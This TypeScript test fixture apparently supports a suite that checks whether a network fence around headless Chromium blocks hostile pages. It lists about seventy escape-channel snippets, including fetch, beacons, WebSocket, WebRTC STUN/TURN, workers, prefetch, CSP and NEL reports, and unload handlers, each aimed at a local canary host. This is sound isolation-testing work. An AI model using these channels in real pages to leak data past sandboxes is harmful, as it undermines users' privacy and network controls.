import type { CdpConnection } from '../../../browser/cdp.ts';

/** A channel through which a page tries to send data past the fence. Each channel has its own canaries. */
export interface EscapeChannel {
  readonly name: string;
  /** HTML for the hostile page. */
  readonly html: (canary: Canary) => string;
  /** Page that contains the channel. By default, it's the shared page for all channels that don't need their own. */
  readonly page?: string;
  /**
   * Triggers an action that a headed browser performs automatically, but a headless browser performs only at its
   * client's request.
   */
  readonly drive?: (cdp: CdpConnection, tab: DrivenTab, canary: Canary) => Promise<unknown>;
  /** Whether only a TLS connection shows that the channel works, because the page requests plain HTTP. */
  readonly tls?: boolean;
  /**
   * Why headless Chromium never uses the channel, even without the fence. Such a channel can't show whether the fence
   * works.
   */
  readonly inert?: string;
}

/** A tab that a client controls. */
interface DrivenTab {
  readonly targetId: string;
  readonly sessionId: string;
}

/** A channel's target: a port at one address, where servers listen for TCP and UDP traffic. */
export interface Canary {
  /** Origin such as `http://127.0.0.1:4000`. */
  readonly http: string;
  readonly https: string;
  readonly ws: string;
  readonly host: string;
  readonly port: number;
  /** IPv6 form of the address, such as `[::1]`. */
  readonly ipv6: string;
  /** Decimal form of the address, such as `2130706433`. */
  readonly numeric: string;
  /** Hostname of the address, such as `localhost`. */
  readonly alias: string;
  /** Unique suffix for element IDs and names. */
  readonly id: string;
  /** Hostname that doesn't resolve, such as `c12.canary.example`, so only a name server can detect a lookup of it. */
  readonly name: string;
  /**
   * Hostname of a site that uses HSTS. Without the fence, all connections to this hostname reach the canary, except
   * those to port 443.
   */
  readonly strict: string;
  /** URL of a file on this machine that loads an image from the canary. */
  readonly file: string;
}

const script = (code: string) => `<script>try{${code}}catch{}</script>`;
const worker = (code: string) => script(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])))`);
/** Returns a frame with an opaque origin, like the one in which Shopify runs web pixels. */
const sandboxed = (html: string) =>
  `<iframe sandbox="allow-scripts" srcdoc="${html.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`;

/** Returns a URL that the lab redirects to the channel's canary. */
const redirect = ({ host, port }: Canary, path: string) => `https://redirect.example/${path}/${host}/${port}`;

export const CHANNELS: readonly EscapeChannel[] = [
  // Requests from markup
  { name: 'image', html: c => `<img src="${c.http}/">` },
  { name: 'image with `srcset`', html: c => `<img srcset="${c.http}/ 1x">` },
  { name: 'stylesheet', html: c => `<link rel=stylesheet href="${c.http}/">` },
  { name: 'CSS import', html: c => `<style>@import "${c.http}/";</style>` },
  { name: 'CSS background', html: c => `<div style="background:url(${c.http}/);width:9px;height:9px"></div>` },
  {
    name: 'font',
    html: c => `<style>@font-face{font-family:x;src:url(${c.http}/)}</style><p style="font-family:x">x</p>`,
  },
  { name: 'script', html: c => `<script src="${c.http}/"></script>` },
  { name: 'module import', html: c => `<script type=module>import("${c.http}/")</script>` },
  { name: 'frame', html: c => `<iframe src="${c.http}/"></iframe>` },
  { name: 'object', html: c => `<object data="${c.http}/"></object>` },
  { name: 'embed', html: c => `<embed src="${c.http}/">` },
  { name: 'video', html: c => `<video src="${c.http}/" preload=auto autoplay muted></video>` },
  { name: 'audio', html: c => `<audio src="${c.http}/" preload=auto></audio>` },
  { name: 'SVG use', html: c => `<svg><image href="${c.http}/" width=9 height=9 /></svg>` },
  {
    name: 'favicon',
    html: c => `<link rel=icon href="${c.http}/">`,
    inert: 'A headless browser has no tab strip, so it never loads icons.',
  },
  {
    name: 'manifest',
    html: c =>
      script(`document.head.append(Object.assign(document.createElement("link"),{rel:"manifest",href:"${c.http}/"}))`),
    page: 'manifest',
    drive: (cdp, { sessionId }) => cdp.send('Page.getAppManifest', {}, sessionId),
  },
  // Hints
  {
    name: 'dns-prefetch',
    html: c => `<link rel=dns-prefetch href="//hint.${c.name}">`,
    inert: 'Headless Chromium ignores hints about names and connections.',
  },
  {
    name: 'preconnect',
    html: c => `<link rel=preconnect href="${c.http}">`,
    inert: 'Headless Chromium ignores hints about names and connections.',
  },
  {
    name: 'link to prerender',
    html: c => `<link rel=prerender href="${c.http}/">`,
    inert: 'Only Chrome follows these links. Headless Chromium follows only speculation rules.',
  },
  { name: 'prefetch', html: c => `<link rel=prefetch href="${c.http}/">` },
  { name: 'preload', html: c => `<link rel=preload as=script href="${c.http}/">` },
  { name: 'modulepreload', html: c => `<link rel=modulepreload href="${c.http}/">` },
  {
    name: 'speculation rules for prefetching',
    html: c =>
      `<script type=speculationrules>{"prefetch":[{"source":"list","eagerness":"immediate","urls":["${c.http}/"]}]}</script>`,
  },
  {
    name: 'speculation rules for `prerender`',
    html: c =>
      `<script type=speculationrules>{"prerender":[{"source":"list","eagerness":"immediate","urls":["${c.http}/"]}]}</script>`,
  },
  // Requests from scripts
  { name: 'fetch', html: c => script(`fetch("${c.http}/")`) },
  {
    name: 'fetch with `keepalive`',
    html: c => script(`fetch("${c.http}/",{method:"POST",body:"x",keepalive:true})`),
  },
  { name: 'XMLHttpRequest', html: c => script(`const x=new XMLHttpRequest;x.open("GET","${c.http}/");x.send()`) },
  { name: 'sendBeacon', html: c => script(`navigator.sendBeacon("${c.http}/","x")`) },
  { name: 'EventSource', html: c => script(`new EventSource("${c.http}/")`) },
  { name: 'WebSocket', html: c => script(`new WebSocket("${c.ws}/")`) },
  { name: 'WebTransport', html: c => script(`new WebTransport("${c.https}/").ready.catch(()=>{})`) },
  {
    name: 'STUN',
    html: c =>
      script(
        `const p=new RTCPeerConnection({iceServers:[{urls:"stun:${c.host}:${c.port}"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))`,
      ),
  },
  {
    name: 'TURN over TCP',
    html: c =>
      script(
        `const p=new RTCPeerConnection({iceServers:[{urls:"turn:${c.host}:${c.port}?transport=tcp",username:"a",credential:"b"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))`,
      ),
  },
  {
    name: 'WebRTC candidate',
    html: c =>
      script(
        `const a=new RTCPeerConnection,b=new RTCPeerConnection;a.createDataChannel("x");a.createOffer().then(async o=>{await a.setLocalDescription(o);await b.setRemoteDescription(o);const n=await b.createAnswer();await b.setLocalDescription(n);await a.setRemoteDescription(n);a.addIceCandidate({candidate:"candidate:1 1 udp 2122260223 ${c.host} ${c.port} typ host",sdpMid:"0"})})`,
      ),
  },
  {
    name: 'STUN in a new frame',
    html: c =>
      script(
        `const f=document.createElement("iframe");document.body.append(f);const p=new f.contentWindow.RTCPeerConnection({iceServers:[{urls:"stun:${c.host}:${c.port}"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))`,
      ),
  },
  // Names
  { name: 'name of an image’s host', html: c => `<img src="https://image.${c.name}/">` },
  { name: 'name of a WebSocket’s host', html: c => script(`new WebSocket("wss://socket.${c.name}/")`) },
  {
    name: 'name of a STUN server',
    html: c =>
      script(
        `const p=new RTCPeerConnection({iceServers:[{urls:"stun:stun.${c.name}"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))`,
      ),
  },
  // Other forms of the address
  ...(['ipv6', 'alias', 'numeric'] as const).map(form => ({
    name: `fetch from ${{ ipv6: 'an IPv6 address', alias: 'a hostname', numeric: 'a numeric host' }[form]}`,
    html: (c: Canary) => script(`fetch("${c.http.replace(c.host, c[form])}/",{mode:"no-cors"})`),
  })),
  // Workers
  { name: 'worker fetch', html: c => worker(`fetch("${c.http}/")`) },
  { name: 'worker importScripts', html: c => worker(`importScripts("${c.http}/")`) },
  { name: 'worker WebSocket', html: c => worker(`new WebSocket("${c.ws}/")`) },
  {
    name: 'nested worker',
    html: c => worker(`new Worker(URL.createObjectURL(new Blob(["fetch('${c.http}/')"])))`),
  },
  { name: 'shared worker', html: c => script(`new SharedWorker("/shared.js?${c.host}/${c.port}")`) },
  { name: 'service worker', html: c => script(`navigator.serviceWorker.register("/service.js?${c.host}/${c.port}")`) },
  { name: 'sandboxed frame fetch', html: c => sandboxed(script(`fetch("${c.http}/")`)) },
  { name: 'sandboxed worker fetch', html: c => sandboxed(worker(`fetch("${c.http}/")`)) },
  { name: 'sandboxed worker importScripts', html: c => sandboxed(worker(`importScripts("${c.http}/")`)) },
  { name: 'data URL frame', html: c => `<iframe src="data:text/html,<img src='${c.http}/'>"></iframe>` },
  {
    name: 'blob URL frame',
    html: c =>
      script(
        `const f=document.createElement("iframe");f.src=URL.createObjectURL(new Blob(["<img src='${c.http}/'>"],{type:"text/html"}));document.body.append(f)`,
      ),
  },
  // Redirects
  { name: 'redirected image', html: c => `<img src="${redirect(c, 'image')}">` },
  { name: 'redirected fetch', html: c => script(`fetch("${redirect(c, 'fetch')}",{mode:"no-cors"})`) },
  { name: 'redirected frame', html: c => `<iframe src="${redirect(c, 'frame')}"></iframe>` },
  {
    name: 'HSTS upgrade',
    html: c =>
      script(
        `fetch("https://${c.strict}/hsts",{mode:"no-cors"}).then(()=>{location.href="http://${c.strict}:${c.port}/"})`,
      ),
    page: 'HSTS upgrade',
    tls: true,
  },
  // Reports
  { name: 'CSP report', html: c => `<iframe src="/csp/${c.host}/${c.port}"></iframe>` },
  {
    name: 'Reporting API',
    // The browser sends a frame's reports when the frame is removed.
    html: c => `<iframe src="/reporting/${c.host}/${c.port}" onload="setTimeout(()=>this.remove(),300)"></iframe>`,
  },
  {
    name: 'network error log',
    html: c =>
      script(
        `fetch("https://${c.strict}/nel/${c.host}/${c.port}",{mode:"no-cors"}).then(()=>fetch("https://${c.strict}/missing",{mode:"no-cors"}))`,
      ),
  },
  {
    name: 'source map',
    html: c => script(`eval("1//# sourceMappingURL=${c.http}/")`),
    page: 'source map',
    drive: (cdp, { targetId, sessionId }, { http }) =>
      cdp.send(
        'Network.loadNetworkResource',
        { frameId: targetId, url: `${http}/`, options: { disableCache: true, includeCredentials: false } },
        sessionId,
      ),
  },
  // Navigation
  {
    name: 'ping',
    html: c =>
      `<a id=ping-${c.id} href="#x" ping="${c.http}/">x</a>${script(`document.getElementById("ping-${c.id}").click()`)}`,
  },
  { name: 'popup', html: c => script(`open("${c.http}/")`) },
  {
    name: 'form that targets a new tab',
    html: c =>
      `<form id=form-tab-${c.id} method=post target=_blank action="${c.http}/"></form>${script(`document.getElementById("form-tab-${c.id}").submit()`)}`,
  },
  {
    name: 'form that targets a frame',
    html: c =>
      `<iframe name=frame-${c.id}></iframe><form id=form-frame-${c.id} method=post target=frame-${c.id} action="${c.http}/"></form>${script(`document.getElementById("form-frame-${c.id}").submit()`)}`,
  },
  {
    name: 'download',
    html: c =>
      script(
        `const a=document.createElement("a");a.href="${c.http}/";a.download="x";document.body.append(a);a.click()`,
      ),
    page: 'download',
  },
  { name: 'location', html: c => script(`setTimeout(()=>location.href="${c.http}/",50)`), page: 'location' },
  { name: 'meta refresh', html: c => `<meta http-equiv=refresh content="0;url=${c.http}/">`, page: 'meta refresh' },
  ...['pagehide', 'beforeunload', 'visibilitychange'].map(event => ({
    name: `beacon at ${event}`,
    html: (c: Canary) => script(`addEventListener("${event}",()=>navigator.sendBeacon("${c.http}/","x"))`),
    page: 'unload',
  })),
  {
    name: 'fetch with `keepalive` at beforeunload',
    html: c =>
      script(`addEventListener("beforeunload",()=>fetch("${c.http}/",{method:"POST",body:"x",keepalive:true}))`),
    page: 'unload',
  },
  {
    name: 'synchronous request at beforeunload',
    html: c =>
      script(
        `addEventListener("beforeunload",()=>{const x=new XMLHttpRequest;x.open("GET","${c.http}/",false);x.send()})`,
      ),
    page: 'unload',
    inert: 'Chromium refuses synchronous requests while a page is closing.',
  },
  {
    name: 'beacon behind a beforeunload dialog',
    html: c =>
      script(
        `addEventListener("beforeunload",e=>{e.preventDefault();navigator.sendBeacon("${c.http}/","x")});setTimeout(()=>location.href="/elsewhere",50)`,
      ),
    page: 'unload',
  },
  {
    name: 'custom protocol',
    html: c => script(`setTimeout(()=>location.href="intent://${c.host}:${c.port}/#Intent;scheme=http;end",50)`),
    page: 'custom protocol',
    inert: 'A headless browser never starts other programs.',
  },
  {
    name: 'file URL with a host',
    html: c => script(`setTimeout(()=>location.href="file://${c.host}:${c.port}/x",50)`),
    page: 'file URL with a host',
    inert: 'On Linux, Chromium doesn’t connect to the host of a file URL.',
  },
  {
    name: 'local file',
    html: () => '',
    page: 'local file',
    drive: (cdp, { sessionId }, { file }) => cdp.send('Page.navigate', { url: file }, sessionId),
  },
];
